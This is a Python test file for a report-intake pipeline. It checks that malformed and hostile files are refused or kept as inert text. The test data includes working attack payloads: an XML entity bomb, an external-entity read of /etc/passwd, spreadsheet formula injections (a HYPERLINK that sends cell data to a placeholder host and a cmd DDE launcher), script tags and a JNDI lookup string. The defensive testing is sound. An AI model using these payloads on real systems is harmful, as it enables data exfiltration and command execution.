"""Hostile and broken input: a clear reason, the bytes kept, the rest read, nothing executed."""

from __future__ import annotations

import io
import json
import zipfile
from email.message import EmailMessage

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fusion.intake import Arrival, limits, read
from tests.intake.support import RECEIVED, Result, packed, take
from tests.support import make_run
from tests.support.packages import blank_pdf, with_part, word_file


def refused(result: Result) -> str:
    """The rule that refused the whole file; counts add up and the document row stands."""
    (document,) = result.documents
    assert document["status"] == "refused"
    assert document["reason"]
    assert result.reports == []
    assert result.reading.flow.adds_up
    (held,) = result.held
    assert held["reason"]
    assert held["advice"]
    return str(held["rule"])


BOMB = b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><w:document>&b;</w:document>"
EXTERNAL = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)


@pytest.mark.parametrize(
    ("content", "name", "rule"),
    [
        (b"", "a.txt", "file_not_empty"),
        (b"  \n\t ", "a.csv", "file_not_empty"),
        (word_file()[:2000], "a.docx", "file_complete"),
        (b"%PDF-1.7\n1 0 obj\n<<", "a.pdf", "file_complete"),
        (blank_pdf(), "a.pdf", "text_present"),
        (blank_pdf("secret"), "a.pdf", "file_not_encrypted"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "file_not_encrypted"),
        (OLE, "a.xls", "format_supported"),
        (b"\x89PNG\r\n\x1a\n" + bytes(64), "overlay.pdf", "format_supported"),
        (b"MZ\x90\x00" + bytes(64), "a.txt", "format_supported"),
        (bytes(range(32)) * 20, "a.txt", "text_readable"),
        (
            with_part(word_file(), "word/vbaProject.bin", b"Sub AutoOpen"),
            "a.docm",
            "file_without_macros",
        ),
        (with_part(word_file(), "word/document.xml", BOMB), "a.docx", "xml_without_entities"),
        (with_part(word_file(), "word/document.xml", EXTERNAL), "a.docx", "xml_without_entities"),
        (with_part(word_file(), "word/media/a.bin", bytes(5_000_000)), "a.docx", "file_not_bomb"),
        (b'{"text": "cut in the mid', "a.json", "json_valid"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_file_is_refused_with_its_reason(content: bytes, name: str, rule: str) -> None:
    assert refused(take(content, name)) == rule


def test_mislabelled_file_is_read_as_what_it_is() -> None:
    result = take(word_file(), "patrol.pdf")
    assert len(result.reports) == 1
    assert "mislabelled" in result.kinds
    assert "mislabelled" not in take(word_file(), "patrol.docx").kinds


def test_size_limit_is_checked_before_anything_is_read() -> None:
    big = Arrival("military/a.txt", limits.FILE_BYTES + 1, "military", RECEIVED)
    reading = read(big, b"x " * (limits.FILE_BYTES // 2 + 1), make_run())
    assert reading.tables["quarantine"]["rule"].to_pylist() == ["file_within_limits"]


def test_total_unpacked_size_is_checked_from_the_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "UNPACKED_BYTES", 1000)
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("was unpacked"))
    assert refused(take(packed(word__document_DOT_xml="<x/>" * 1000), "a.docx")) == "file_not_bomb"


def test_file_outside_every_component_folder() -> None:
    result = take("Two boats crossed at night without lights.", "a.txt", None)
    assert refused(result) == "folder_of_component"
    assert result.documents[0]["component"] is None


def nested(depth: int) -> bytes:
    message = EmailMessage()
    message["Subject"], message["From"], message["Date"] = "x", "a@example.org", "Wed, 27 May 2026"
    message.set_content(
        f"Message at depth {depth}: the road is closed to heavy lorries since dawn."
    )
    if depth < 6:
        message.add_attachment(
            nested(depth + 1), maintype="application", subtype="octet-stream", filename="in.eml"
        )
    return message.as_bytes()


def test_attachments_deeper_than_the_limit_are_refused() -> None:
    result = take(nested(0), "a.eml", "political_affairs")
    assert [held["rule"] for held in result.held] == ["attachment_depth"]
    assert len(result.reports) == limits.DEPTH + 1
    assert result.reading.flow.adds_up


def test_formula_cells_stay_text_and_are_told() -> None:
    rows = [
        ["date", "village", "message"],
        ["2026-03-14", "Bara", '=HYPERLINK("http://example.invalid/?d="&A1,"click")'],
        ["2026-03-14", "Bara", "+cmd|' /C calc'!A0"],
        ["2026-03-14", "Bara", "@SUM(1+1)*cmd"],
        ["2026-03-15", "Bara", "-2 degrees at night, first time this year"],
    ]
    text = "\n".join("\t".join(row) for row in rows)
    result = take(text, "a.csv", "civil_affairs")
    assert [r["text"].split("\n")[0] for r in result.reports] == [row[2] for row in rows[1:]]
    assert {i["locator"] for i in result.issues if i["kind"] == "formula_in_cell"} == {
        "row 2",
        "row 3",
        "row 4",
    }


def test_formula_in_a_workbook_is_not_evaluated() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Date", "Lieu", "Description", "Total"])
    sheet.append(["2026-03-14", "Bara", "Quatre vaches volées dans la nuit", "=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    (report,) = take(buffer.getvalue(), "a.xlsx", "police").reports
    assert "Total: 2" not in report["text"]


def test_script_tags_in_text_stay_inert_text() -> None:
    text = "Notice on the wall: <script>alert(1)</script> {{7*7}} ${jndi:ldap://x} seen at Gao."
    (report,) = take(text, "a.txt", "police").reports
    assert "<script>alert(1)</script> {{7*7}} ${jndi:ldap://x}" in report["text"]


def test_name_of_ten_thousand_characters() -> None:
    name = "Abdou" * 2000
    (report,) = take(f"On 12 March {name} crossed the river at night.", "a.txt").reports
    assert name in report["text"]
    title = take(f"# {name}\n\nTwo boats crossed at night without any lights on.", "a.md")
    assert len(title.documents[0]["title"]) <= 300


def test_file_name_of_many_characters() -> None:
    result = take("Two boats crossed at night without any lights on.", "n" * 10_000 + ".txt")
    assert result.documents[0]["path"].endswith("n.txt")
    assert len(result.reports) == 1


def test_text_over_the_limit_is_held_with_its_locator(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "REPORT_CHARACTERS", 500)
    result = take("word " * 200, "a.txt")
    assert [held["rule"] for held in result.held] == ["text_within_limit"]
    assert len(result.held[0]["value"]) <= limits.VALUE_CHARACTERS
    assert result.documents[0]["status"] == "partly_read"


def test_broken_lines_are_held_and_the_rest_is_read() -> None:
    good = json.dumps({"text": "Two boats crossed at night without lights."})
    result = take(f"{good}\n{{broken\n\n{good[:-1]}\n{good}\n", "a.jsonl", "police")
    assert [r["locator"] for r in result.reports] == ["line 1", "line 5"]
    assert [h["locator"] for h in result.held] == ["line 2", "line 4"]
    assert result.reading.flow.n_in == 4


def test_shifted_header_is_held_row_by_row() -> None:
    text = (
        "dossier;date;site;observation;suivi\n"
        "M-1;12/05/2026;Gao;un kit perdu lors de la sortie;remis\n"
        "03/05/2026;Gao;kit perdu par le groupe;retrouvé;RAS\n"
        "M-3;04/05/2026;Gao;kit perdu;retrouvé;RAS;encore\n"
    )
    result = take(text, "a.csv", "ddr")
    assert [r["locator"] for r in result.reports] == ["row 2"]
    assert {(h["locator"], h["rule"]) for h in result.held} == {
        ("row 3", "row_fits_header"),
        ("row 4", "row_fits_header"),
    }


def test_nul_bytes_and_hidden_characters_are_normalised_and_told() -> None:
    content = "Two bo\x00ats cros\u202esed at\u200b night without lights on."
    result = take(content, "a.txt")
    assert result.texts == ["Two boats crossed at night without lights on."]
    assert {"control_characters", "hidden_characters"} <= result.kinds


def test_mixed_encodings_are_read_line_by_line() -> None:
    lines = ["n°;site;observation", "1;Ménaka;réunion tenue à la mairie"]
    content = "\n".join(lines).encode() + b"\n2;M\xe9naka;r\xe9union report\xe9e \xe0 lundi\n"
    result = take(content, "a.csv", "ddr")
    assert result.texts == [
        "réunion tenue à la mairie\nsite: Ménaka",
        "réunion reportée à lundi\nsite: Ménaka",
    ]
    assert "mixed_encoding" in result.kinds


def test_two_encodings_glued_together_are_told() -> None:
    wide = "date;village;message\n2026-03-11;Ménaka;réunion tenue à la mairie\n".encode("utf-16")
    western = "2026-03-12;Ménaka;dépôt fermé, clé perdue près de l'école\n".encode("latin-1")
    assert "unknown_characters" in take(wide + western, "a.csv", "civil_affairs").kinds
    assert "unknown_characters" not in take(wide, "a.csv", "civil_affairs").kinds


def test_a_row_that_tells_nothing_and_a_word_without_end_are_told() -> None:
    rows = "Date,Place,Text\n2026-03-12,Gao,\n2026-03-13,Bara,Two boats crossed at night.\n"
    told = [i for i in take(rows, "a.csv", "police").issues if i["kind"] == "narrative_missing"]
    assert [issue["locator"] for issue in told] == ["row 2"]
    assert "overlong_word" in take(f"{'Abdou' * 2000} crossed the river at night.").kinds
    link = "https://example.invalid/" + "a" * 500
    assert "overlong_word" not in take(f"The link {link} was sent to the desk at night.").kinds


def test_crash_of_a_library_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_: object) -> None:
        raise MemoryError("no more")

    monkeypatch.setattr("fusion.intake.reading.read_bytes", boom)
    assert refused(take("anything")) == "file_readable"


@settings(max_examples=40, deadline=None)
@given(
    st.binary(max_size=400),
    st.sampled_from(["a.txt", "a.csv", "a.json", "a.jsonl", "a.eml", "a.html", "a.pdf", "a.docx"]),
)
def test_no_bytes_stop_the_run(content: bytes, name: str) -> None:
    result = take(content, name)
    assert result.reading.flow.adds_up
    assert result.documents[0]["status"] in ("read", "partly_read", "refused")


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=600), st.sampled_from(["military", "civil_affairs", "panel_of_experts"]))
def test_no_text_stops_the_run(text: str, component: str) -> None:
    result = take(text.encode("utf-8", "replace"), "a.txt", component)
    assert result.reading.flow.adds_up
